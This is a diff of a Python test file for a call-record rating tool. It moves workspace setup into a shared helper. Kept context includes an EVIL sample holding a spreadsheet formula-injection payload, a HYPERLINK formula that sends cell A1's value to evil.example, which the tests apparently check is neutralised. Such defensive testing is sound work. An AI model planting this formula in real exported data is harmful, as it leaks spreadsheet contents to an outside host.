@@ -4,15 +4,14 @@ that would run as a spreadsheet formula is written neutralised (store.cells), as
 from __future__ import annotations
 
 import csv
-import shutil
 from pathlib import Path
 
 import pytest
+from serve_support import make_workspace
 
 from anatole.batchrate import batch_rate
 from anatole.config import open_workspace
 
-SAMPLES = Path(__file__).parent.parent / "tariffs" / "samples"
 GOOD = (b'"","2001","+33155501234","from-internal","""Alice"" <2001>","PJSIP/2001-0000002a","PJSIP/trunk-out-0000002b",'
         b'"Dial","PJSIP/+33155501234@trunk-out,60","2025-03-14 10:15:02","2025-03-14 10:15:09","2025-03-14 10:17:41",'
         b'159,152,"ANSWERED","DOCUMENTATION","1741943702.84",""\n')
@@ -20,13 +19,7 @@ EVIL = b'=HYPERLINK("http://evil.example/?x="&A1;"open me")\n@SUM(1+1)\n'
 
 
 def _workspace(root: Path) -> Path:
-    (root / "tariffs").mkdir(parents=True)
-    for ext in (".toml", ".csv"):
-        shutil.copy(SAMPLES / f"fr-business{ext}", root / "tariffs" / f"fr-business{ext}")
-    (root / "anatole.toml").write_text(
-        '[[site]]\nname = "paris"\ncountry = "FR"\ntimezone = "Europe/Paris"\noutside_prefix = ""\n'
-        'extensions = ["2000-2999"]\ntariff = "tariffs/fr-business.toml"\n')
-    return root
+    return make_workspace(root, sources="")  # site paris, its tariff, no live source
 
 
 def _raw_cells(path: Path) -> list[str]:
